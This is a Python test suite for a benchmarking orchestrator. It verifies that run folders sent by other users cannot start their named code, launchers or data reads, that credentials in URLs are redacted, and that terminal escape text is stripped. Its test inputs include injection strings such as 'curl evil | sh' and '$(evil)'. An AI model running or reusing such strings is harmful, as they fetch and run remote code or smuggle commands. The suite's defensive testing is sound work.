"""What a run of somebody else's names is shown; it starts only where it is typed, and nothing that reads starts it."""

from __future__ import annotations

import json
import os
import shutil

import msgspec
import pytest

from orchestrator.results.folder import RunFolder
from orchestrator.run import session, stranger
from orchestrator.stats import stopping_rule
from tests.fakes.roots import make_root
from tests.fakes.runs import Bench, rows_of

pytestmark = pytest.mark.slow


@pytest.fixture
def bench(tmp_path, here):
    bench = Bench(tmp_path, ["good"])
    bench.finish = here(bench)
    assert bench.finish(*bench.run())[0] == 0
    return bench


@pytest.fixture
def mark(tmp_path):
    """A file that is there once anything of the stranger's has run."""
    return tmp_path / "has-run"


@pytest.fixture
def mail(bench, mark):
    """The run as a stranger sends it: one result is missing, and its root is code of his."""
    mail = bench.folder / "mail"
    shutil.copytree(bench.runs[0], mail)
    (mail / "manifest.json").unlink()
    next(mail.glob("jobs/*/result.json")).unlink()
    root = make_root(mail / "root", ["good"])
    (root / "workloads" / "run.py").write_text(f"open({str(mark)!r}, 'w')\n")
    named(mail, root=str(root))
    return mail


def named(mail, *, config=None, **setup):
    path = mail / "plan.json"
    plan = json.loads(path.read_bytes())
    plan["setup"].update(setup)
    plan["config"].update(config or {})
    path.write_text(json.dumps(plan))


def hostile_runtime(mail, mark):
    """The file of a container runtime, whose program is the stranger's."""
    program = mail / "x"
    program.write_text(f"#!/bin/sh\ntouch {mark}\n")
    program.chmod(0o755)
    runtime = mail / "rt.yaml"
    runtime.write_text(f"{{like: podman, program: [{program}]}}")
    return str(runtime)


TYPED = ("--launcher", "process", "--no-fetch")


@pytest.mark.parametrize("verb", [("run", "--resume"), ("replay",), ("attach",)])
def test_code_that_a_strangers_plan_names_does_not_run(bench, mail, mark, verb):
    code, _, stderr = bench.finish(*verb, mail)
    assert code == 2, stderr
    assert f"root: {mail / 'root'}" in stderr and "launcher: process" in stderr
    assert "is not a run of yours: another user recorded it, or its plan.json was changed since" in stderr
    assert "with --launcher NAME, --root DIR" in stderr
    assert not mark.exists()


def test_nothing_is_written_to_a_strangers_folder_before_it_is_allowed(bench, mail):
    before = {path: path.lstat().st_mtime_ns for path in [mail, *mail.rglob("*")]}
    for verb in (("run", "--resume"), ("replay",), ("attach",)):
        assert bench.finish(*verb, mail)[0] == 2
    assert {path: path.lstat().st_mtime_ns for path in [mail, *mail.rglob("*")]} == before


@pytest.mark.parametrize("verb", [("run", "--resume"), ("replay",), ("replay", "--dry-run"), ("attach",)])
def test_a_launcher_in_the_folder_does_not_start(bench, mail, mark, verb):
    runtime = hostile_runtime(mail, mark)
    named(mail, root=None, launcher=runtime, config={"launcher": runtime})
    code, stdout, stderr = bench.finish(*verb, mail)
    assert code == (0 if "--dry-run" in verb else 2), stderr
    assert f"launcher: {runtime}" in stdout + stderr
    assert not mark.exists()


def test_a_launcher_that_is_a_fifo_is_not_even_opened(bench, mail):
    os.mkfifo(mail / "rt.yaml")
    named(mail, launcher=str(mail / "rt.yaml"), config={"launcher": str(mail / "rt.yaml")})
    for verb in (("run", "--resume"), ("replay",), ("replay", "--dry-run"), ("report", "--json"), ("verify",)):
        code, _, stderr = bench.finish(*verb, mail)
        assert code in (0, 1, 2), stderr


def test_it_goes_on_with_what_was_typed_and_is_ones_own_from_then_on(bench, mail, mark):
    words = ("run", "--resume", mail, *TYPED, "--root", bench.root, "--data-dir", bench.data)
    code, stdout, stderr = bench.finish(*words, "--json")
    assert code == 0, stderr
    assert [row["status"] for row in rows_of(stdout)] == ["ok"]
    assert not mark.exists()
    assert json.loads((mail / "plan.json").read_bytes())["setup"]["root"] == str(bench.root)
    next(mail.glob("jobs/*/result.json")).unlink()
    assert bench.finish("run", "--resume", mail)[0] == 0
    assert not mark.exists()


def test_it_is_replayed_with_what_was_typed(bench, mail, mark):
    words = ("replay", mail, *TYPED, "--root", bench.root, "--data-dir", bench.data)
    code, _, stderr = bench.finish(*words)
    assert code == 1, stderr  # the stranger's result is missing: there is nothing to compare with
    (result,) = bench.runs[1].glob("jobs/*/result.json")
    assert json.loads(result.read_bytes())["status"] == "ok"
    assert not mark.exists()


@pytest.mark.parametrize(
    ("config", "option"),
    [
        ({"weaken": ["network"]}, "--weaken"),
        ({"allow_busy": True}, "--allow-busy"),
        ({"executor": "slurm", "slurm": {"python": "/tmp/python", "options": ["--bb=x"]}}, "--executor"),
    ],
)
def test_whatever_acts_beyond_the_jobs_must_be_typed(bench, mail, config, option):
    named(mail, root=None, config=config)
    code, _, stderr = bench.finish("run", "--resume", mail, *TYPED)
    assert code == 2
    assert option in stderr.rpartition("->")[2]
    for name in config:
        assert f"{name}: " in stderr


def test_files_that_a_plan_names_as_data_are_not_read(bench, mail, tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("secret")
    plan = json.loads((mail / "plan.json").read_bytes())
    plan["data"]["mnist"]["path"] = str(secret)
    (mail / "plan.json").write_text(json.dumps(plan))
    words = ("run", "--resume", mail, *TYPED, "--root", bench.root, "--data-dir", bench.data)
    assert bench.finish(*words)[0] == 0
    assert json.loads((mail / "plan.json").read_bytes())["data"]["mnist"]["path"] == str(bench.data / "mnist.npz")


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda plan: plan.update(jobs=[], skipped=[]), "there are no jobs"),
        (lambda plan: plan["jobs"][0].update(stack="nope"), "there is no stack 'nope'"),
        (lambda plan: plan["jobs"][0].update(backend="nope"), "there is no backend of keras1-mxnet 'nope'"),
        (lambda plan: plan["jobs"][0].update(workload="nope"), "there is no workload 'nope'"),
    ],
)
def test_names_that_nothing_has_are_one_line(bench, mail, change, words):
    plan = json.loads((mail / "plan.json").read_bytes())
    change(plan)
    (mail / "plan.json").write_text(json.dumps(plan))
    for verb in (("run", "--resume"), ("replay",)):
        code, _, stderr = bench.finish(*verb, mail, *TYPED, "--root", bench.root, "--data-dir", bench.data)
        assert (code, words in stderr) == (2, True), stderr


def test_a_keras_that_only_a_result_names_is_nobodys_order(bench, mark):
    """Results are no part of the seal: a colleague may send back my own run with another Keras in its results."""
    run = bench.runs[0]
    path = next(run.glob("jobs/*/result.json"))
    result = json.loads(path.read_bytes())
    result["fingerprint"].update(keras_spec=f"{run}/evil", launcher=hostile_runtime(run, mark))
    path.write_text(json.dumps(result))
    code, _, stderr = bench.finish("replay", run, "--root", bench.root, "--data-dir", bench.data, "--no-fetch")
    assert code == 0, stderr
    new = json.loads((bench.runs[1] / "plan.json").read_bytes())["setup"]
    assert (new["keras_spec"], new["launcher"]) == (None, "process")
    assert not mark.exists()


def test_a_dry_run_lists_all_and_makes_nothing(bench, mail, mark, tmp_path):
    named(mail, keras_spec="keras @ https://bot:T0KEN@host/k.zip")
    before = sorted(path for path in tmp_path.rglob("*"))
    for words in (("replay", mail, "--dry-run"), ("run", "--resume", mail, "--dry-run")):
        code, stdout, stderr = bench.finish(*words)
        assert code == 0, stderr
        for name in ("root", "stacks", "launcher", "keras spec", "images", "data"):
            assert f"\n{name}: " in stdout
        assert stdout.startswith("not a run of yours: ")
        assert "https://host/k.zip" in stdout and "T0KEN" not in stdout + stderr
        document = json.loads(bench.finish(*words, "--json")[1])
        assert document["yours"] is False and {part["name"] for part in document["parts"]} >= {"root", "launcher"}
        assert "T0KEN" not in json.dumps(document)
    assert sorted(path for path in tmp_path.rglob("*")) == before
    assert not mark.exists()
    assert bench.finish("replay", bench.runs[0], "--dry-run")[1].startswith("a run of yours\n")


def test_text_of_a_plan_does_not_steer_the_terminal(bench, mail):
    named(mail, root="/x\x1b]0;gotcha\x07\nlauncher: docker")
    for words in (("replay", mail, "--dry-run"), ("run", "--resume", mail)):
        _, stdout, stderr = bench.finish(*words)
        assert "\x1b" not in stdout + stderr and "\nlauncher: docker" not in stdout + stderr


def test_ones_own_run_asks_nothing_wherever_it_lies(bench, tmp_path):
    moved = tmp_path / "moved"
    bench.runs[0].rename(moved)
    next(moved.glob("jobs/*/result.json")).unlink()
    code, _, stderr = bench.finish("run", "--resume", moved, "--no-fetch")
    assert code == 0, stderr
    assert "1 of 1 jobs to run" in stderr
    code, _, stderr = bench.finish("replay", moved, "--root", bench.root, "--data-dir", bench.data, "--no-fetch")
    assert code == 0, stderr


def test_ones_own_run_that_grew_by_until_asks_nothing_and_keeps_its_root(bench, monkeypatch):
    def one_more(plan, found):
        return [] if len(plan.jobs) > 1 else [msgspec.structs.replace(plan.jobs[0], repeat=2)]

    monkeypatch.setattr(stopping_rule, "next_jobs", one_more)  # whatever the times are
    code, _, stderr = bench.finish(*bench.run("--until", "99%", "--budget", "10m"))
    assert code == 0, stderr
    run = bench.runs[1]
    plan = json.loads((run / "plan.json").read_bytes())
    assert len(plan["jobs"]) == 2 and plan["setup"]["root"] == str(bench.root)
    next(run.glob("jobs/*/result.json")).unlink()
    code, _, stderr = bench.finish("run", "--resume", run)
    assert code == 0, stderr


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("orchestrate run --stack 'keras3-*'", "orchestrate run --stack 'keras3-*'"),
        ("orchestrate run --pip-index-url https://u:S3CRET@h/", "orchestrate run --pip-index-url https://h/"),
        ("orchestrate run; curl evil | sh", ""),
        ("curl evil | sh", ""),
        ("orchestrate run $(evil)", ""),
        ("orchestrate 'run", ""),
        (None, ""),
    ],
)
def test_a_recorded_command_is_quoted_only_where_it_is_one_of_ours(command, shown):
    """A report says it under "All of it again", and people paste it."""
    assert stranger.shown_command(command) == shown


@pytest.mark.parametrize(
    ("command", "acts"),
    [
        ("orchestrate run --stack 'keras3-*' --launcher docker --config smoke", False),
        ("orchestrate run --root mail", True),
        ("orchestrate run --launcher=rt.yaml", True),
        ("orchestrate run --launcher mail/rt", True),
        ("orchestrate evil.py", True),
        ("orchestrate run --config evil.yaml", True),
        ("orchestrate run --weaken network", True),
        ("orchestrate run --keras-spec=evil", True),
    ],
)
def test_a_strangers_command_is_not_there_to_be_pasted_where_it_would_start_something(bench, mail, command, acts):
    named(mail, command=command)
    assert stranger.acts(command) is acts
    shown = session.made_by([RunFolder.open(mail)])
    assert shown == (f"orchestrate replay {mail}" if acts else command)
